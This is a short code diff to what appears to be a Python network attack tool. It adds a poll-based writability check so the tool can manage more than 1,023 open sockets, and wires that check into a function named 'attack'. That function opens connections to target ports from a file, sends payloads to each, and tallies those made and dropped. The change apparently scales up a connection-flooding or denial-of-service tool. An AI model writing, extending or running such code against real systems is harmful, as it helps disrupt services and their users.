@@ -136,6 +136,13 @@ class Ports:
         return sockets
 
 
+def takes_more(connection: socket.socket) -> bool:
+    """Whether a send would not block. By poll(2): select(2) takes no descriptor above 1,023."""
+    watched = select.poll()
+    watched.register(connection, select.POLLOUT)
+    return bool(watched.poll(0))
+
+
 def attack(targets: Path) -> dict[str, int]:
     counts, held = {"ports": 0, "made": 0, "dropped": 0}, list[socket.socket]()
     found, all_at = Ports(targets), 0.0
@@ -148,7 +155,7 @@ def attack(targets: Path) -> dict[str, int]:
             begun = [(knock(port), data) for data in KINDS.values()]
             for connection, data in begun:
                 try:
-                    made = bool(select.select([], [connection], [], 0)[1]) and connection.send(data) == len(data)
+                    made = takes_more(connection) and connection.send(data) == len(data)
                 except OSError:
                     made = False
                 counts["made" if made else "dropped"] += 1
